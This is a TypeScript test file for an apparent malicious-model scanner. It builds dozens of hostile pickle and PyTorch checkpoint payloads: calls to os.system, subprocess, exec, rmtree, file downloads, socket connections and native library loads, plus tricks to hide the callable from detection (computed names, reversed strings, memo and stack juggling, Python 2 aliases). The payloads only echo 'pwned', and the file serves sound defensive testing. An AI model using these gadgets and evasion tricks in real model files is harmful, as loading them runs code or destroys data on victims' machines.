import type { DetectCase } from '../case.ts';
import { bin, hex } from '../blind/bytes.ts';
import { ADDRESS, bad, ECHO, PRINT, rows, streams } from '../blind/make.ts';
import {
  call,
  DUP,
  enc,
  get,
  global,
  line,
  MARK,
  MEMOIZE,
  pk,
  POP,
  POP_MARK,
  put,
  raw,
  REDUCE,
  ref,
  STACK_GLOBAL,
  STOP,
  str,
  stream,
  TUPLE1,
  tup,
  type Val,
} from '../blind/pickle.ts';
import { stateDict, torchZip } from '../blind/torch.ts';

const exec = ref('builtins', 'exec');
const system = ref('posix', 'system');
const path = (name: string): Val => call(ref('pathlib', 'PosixPath'), name);

const gadgets: DetectCase[] = rows('gadget', [
  [
    'execv',
    'pickle',
    2,
    'pickle.load becomes another program',
    call(ref('posix', 'execv'), '/bin/echo', ['echo', 'pwned']),
  ],
  ['run', 'torch-zip', 2, 'torch.load runs a program', call(ref('subprocess', 'run'), ['echo', 'pwned'])],
  ['rmtree', 'torch-zip', 4, 'torch.load deletes a folder', call(ref('shutil', 'rmtree'), 'pwned', true)],
  [
    'compiled-source',
    'pickle',
    4,
    'source is compiled and then run',
    call(exec, call(ref('builtins', 'compile'), PRINT, 'x', 'exec')),
  ],
  ['download', 'folder', 3, 'a file is fetched', call(ref('urllib.request', 'urlretrieve'), ADDRESS, 'pwned')],
  [
    'connection',
    'torch-legacy',
    2,
    'torch.load opens a connection',
    call(ref('socket', 'create_connection'), tup('127.0.0.1', 9)),
  ],
  [
    'write-text',
    'torch-zip',
    4,
    'torch.load writes a file through a path object',
    call(ref('pathlib', 'Path.write_text'), path('pwned'), 'x'),
  ],
  ['rename', 'pickle', 0, 'pickle.load renames a file', call(ref('posix', 'rename'), 'model.pkl', 'pwned')],
]);

const unlisted: DetectCase[] = [
  ...rows('unlisted-gadget', [
    [
      'run-code',
      'pickle',
      4,
      'a private function of runpy runs source',
      call(ref('runpy', '_run_code'), PRINT, {
        enc: () => '}',
      }),
    ],
    [
      'debugger',
      'torch-zip',
      4,
      'the debugger runs source',
      call(ref('bdb', 'Bdb.run'), call(ref('bdb', 'Bdb')), PRINT),
    ],
    ['shelf', 'pickle', 4, 'opening a shelf creates a file', call(ref('shelve', 'open'), 'pwned')],
    [
      'distutils-spawn',
      'torch-legacy',
      2,
      'the old build tools start a program',
      call(ref('distutils.spawn', 'spawn'), ['echo', 'pwned']),
    ],
    [
      'spawnv-passfds',
      'pickle',
      4,
      'multiprocessing starts a program',
      call(ref('multiprocessing.util', 'spawnv_passfds'), bin('/bin/echo'), [bin('echo'), bin('pwned')], []),
    ],
    [
      'dataclass-function',
      'torch-zip',
      4,
      'the maker of dataclass methods runs the default of an argument',
      call(ref('dataclasses', '_create_fn'), 'f', ['x=print(1)'], ['pass']),
    ],
    [
      'memmap',
      'torch-zip',
      4,
      'numpy creates or empties a file',
      call(ref('numpy', 'memmap'), 'pwned', 'uint8', 'w+', 0, tup(4)),
    ],
    [
      'hub-load',
      'torch-zip',
      2,
      'torch fetches a repository and runs its hubconf',
      call(ref('torch.hub', 'load'), 'someone/unrelated', 'model'),
    ],
    ['table-url', 'pickle', 4, 'pandas fetches a pickle and loads it', call(ref('pandas', 'read_pickle'), ADDRESS)],
    ['mail', 'pickle', 2, 'a connection to a mail server of the sender', call(ref('smtplib', 'SMTP'), '127.0.0.1', 9)],
  ]),
  bad('unlisted-gadget', 'sax-parser', 'folder', 'the XML library imports the module next to the model', () => ({
    'model.pkl': pk(call(ref('xml.sax', 'make_parser'), ['payload']), 4),
    'payload.py': bin('print("pwned")\n'),
  })),
];

const aliases: DetectCase[] = rows('alias', [
  ['urllib2', 'pickle', 2, 'a Python 2 name becomes urllib.request.urlopen', call(ref('urllib2', 'urlopen'), ADDRESS)],
  [
    'anydbm',
    'torch-legacy',
    2,
    'a Python 2 name becomes dbm.open and creates a file',
    call(ref('anydbm', 'open'), 'pwned', 'c'),
  ],
  ['c-pickle', 'pickle', 4, 'the C twin of pickle.loads', call(ref('_pickle', 'loads'), pk(call(system, ECHO), 2))],
  ['io-open', 'torch-zip', 2, 'the C twin of open empties a file', call(ref('_io', 'open'), 'pwned', 'w')],
  [
    'socket-twin',
    'pickle',
    4,
    'the C twin of socket connects',
    call(ref('_socket', 'socket.connect'), call(ref('_socket', 'socket')), tup('127.0.0.1', 9)),
  ],
  [
    'frozen-import',
    'torch-zip',
    4,
    'the frozen importer imports',
    call(ref('_frozen_importlib', '_gcd_import'), 'antigravity'),
  ],
  [
    'frames-removed',
    'pickle',
    4,
    'a function of the frozen importer calls what it is given',
    call(ref('_frozen_importlib', '_call_with_frames_removed'), exec, PRINT),
  ],
  [
    'torch-imports-os',
    'torch-zip',
    4,
    'the shell is reached through what torch imports',
    call(ref('torch.serialization', 'shutil.os.system'), ECHO),
  ],
  [
    'load-library',
    'torch-zip',
    4,
    'a native library is loaded through an attribute of torch',
    call(ref('torch', 'ops.load_library'), 'pwned.so'),
  ],
]);

const os = call(call(ref('operator', 'itemgetter'), 'os'), ref('sys', 'modules'));
/** STACK_GLOBAL over two computed strings. */
const found = (module: Val, name: Val): Val => ({ enc: (p) => [enc(module, p), enc(name, p), STACK_GLOBAL] });
const backwards = (text: string): Val =>
  call(ref('operator', 'getitem'), text, call(ref('builtins', 'slice'), null, null, -1));

const computed: DetectCase[] = rows('computed-name', [
  [
    'logging-resolve',
    'pickle',
    4,
    'the configurator of logging resolves a path',
    call(
      call(
        ref('logging.config', 'BaseConfigurator.resolve'),
        call(ref('logging.config', 'BaseConfigurator'), { enc: () => '}' }),
        'os.system',
      ),
      ECHO,
    ),
  ],
  [
    'find-class',
    'torch-zip',
    4,
    'an unpickler is asked for a class that is none',
    call(
      call(
        ref('pickle', 'Unpickler.find_class'),
        call(ref('pickle', 'Unpickler'), call(ref('io', 'BytesIO'))),
        'os',
        'system',
      ),
      ECHO,
    ),
  ],
  [
    'namespace',
    'pickle',
    4,
    'the function is an item of the names of its module',
    call(call(call(ref('operator', 'itemgetter'), 'system'), call(ref('builtins', 'vars'), os)), ECHO),
  ],
  [
    'methodcaller',
    'torch-legacy',
    2,
    'a method of a module from sys.modules',
    call(call(ref('operator', 'methodcaller'), 'system', ECHO), os),
  ],
  [
    'static',
    'pickle',
    4,
    'inspect fetches the function',
    call(call(ref('inspect', 'getattr_static'), os, 'system'), ECHO),
  ],
  [
    'object-attribute',
    'torch-zip',
    4,
    'object itself fetches the function',
    call(call(ref('builtins', 'object.__getattribute__'), os, 'system'), ECHO),
  ],
  [
    'frame-builtins',
    'pickle',
    4,
    'exec is fetched from the frame of the caller',
    call(
      call(
        call(ref('operator', 'itemgetter'), 'exec'),
        call(ref('builtins', 'getattr'), call(ref('sys', '_getframe')), 'f_builtins'),
      ),
      PRINT,
    ),
  ],
  [
    'json-names',
    'pickle',
    4,
    'the names come out of a JSON text',
    call(found(call(ref('json', 'loads'), '"posix"'), call(ref('json', 'loads'), '"sys\\u0074em"')), ECHO),
  ],
  [
    'slice-names',
    'torch-zip',
    4,
    'the names are read backwards',
    call(found(backwards('xisop'), backwards('metsys')), ECHO),
  ],
  [
    'draw',
    'pickle',
    2,
    'the callable is drawn from a list of one',
    call(call(ref('random', 'choice'), [ref('subprocess', 'getoutput')]), ECHO),
  ],
]);

const shout = [str(ECHO), TUPLE1, REDUCE, STOP] as const;

const memo: DetectCase[] = streams('memo-stack', [
  [
    'shared-arguments',
    'torch-zip',
    'one tuple of arguments serves an honest and a hostile call',
    () =>
      stream(
        4,
        enc(ref('builtins', 'len'), 4),
        str(ECHO),
        TUPLE1,
        MEMOIZE,
        REDUCE,
        POP,
        enc(system, 4),
        get(0),
        REDUCE,
        STOP,
      ),
  ],
  [
    'buried-mark',
    'pickle',
    'INST takes its arguments from a mark that lies under popped decoys',
    () => stream(0, MARK, enc(ECHO, 0), MARK, enc('json', 0), enc('loads', 0), POP_MARK, 'iposix\nsystem\n', STOP),
  ],
  [
    'wide-index',
    'pickle',
    'the callable lies behind seventy thousand memo entries',
    () =>
      stream(
        4,
        Array.from({ length: 70_000 }, () => ['N', MEMOIZE, POP]),
        enc(system, 4),
        MEMOIZE,
        POP,
        get(70_000),
        [...shout],
      ),
  ],
  [
    'popped-with-mark',
    'torch-legacy',
    'the callable was memoized below a mark that is popped',
    () => stream(4, MARK, enc(system, 4), MEMOIZE, enc(1, 4), POP_MARK, get(0), [...shout]),
  ],
  [
    'made-arguments',
    'torch-zip',
    'the tuple of arguments is itself the result of a call',
    () => stream(2, 'cposix\nsystem\n', enc(call(ref('builtins', 'tuple'), [ECHO]), 2), REDUCE, STOP),
  ],
  [
    'quoted-operands',
    'pickle',
    'the operands are byte strings in quotes, as Python 2 wrote them',
    () => stream(4, line('S', "'posix'"), line('S', '"sys\\x74em"'), STACK_GLOBAL, ...shout),
  ],
  [
    'wide-operands',
    'torch-zip',
    'the operands are strings with a length of eight bytes',
    () =>
      stream(
        4,
        0x8d,
        hex('0500000000000000'),
        'posix',
        0x8d,
        hex('0600000000000000'),
        'system',
        STACK_GLOBAL,
        ...shout,
      ),
  ],
  [
    'twin',
    'pickle',
    'the callable is doubled and one of the two thrown away',
    () => stream(2, 'cposix\nsystem\n', DUP, POP, enc(ECHO, 2), TUPLE1, REDUCE, STOP),
  ],
  [
    'same-index',
    'folder',
    'one index holds a harmless and then a hostile callable',
    () =>
      stream(
        2,
        'cbuiltins\nlen\n',
        put(3),
        enc(tup('a'), 2),
        REDUCE,
        POP,
        global('posix', 'system').enc(2),
        put(3),
        POP,
        get(3),
        [enc(tup(ECHO), 2), REDUCE, STOP],
      ),
  ],
]);

const lightning = (): Uint8Array =>
  torchZip(
    pk(
      stateDict(['callbacks', call(raw('csubprocess\ncheck_call\n'), ['echo', 'pwned'])], ['hyper_parameters', null]),
      2,
    ),
  );

export const pickleCases: readonly DetectCase[] = [
  ...gadgets,
  bad('gadget', 'lightning', 'torch-zip', 'loading a checkpoint of Lightning starts a program', () => ({
    'epoch=3-step=120.ckpt': lightning(),
  })),
  ...unlisted,
  ...aliases,
  bad('alias', 'numpy-library', 'folder', 'numpy loads the native library next to the model', () => ({
    'model.pkl': pk(call(ref('numpy.ctypeslib', 'load_library'), 'pwned', '.'), 2),
    'pwned.so': bin(0x7f, 'ELF', 2, 1, 1, new Uint8Array(57)),
  })),
  ...computed,
  ...memo,
];
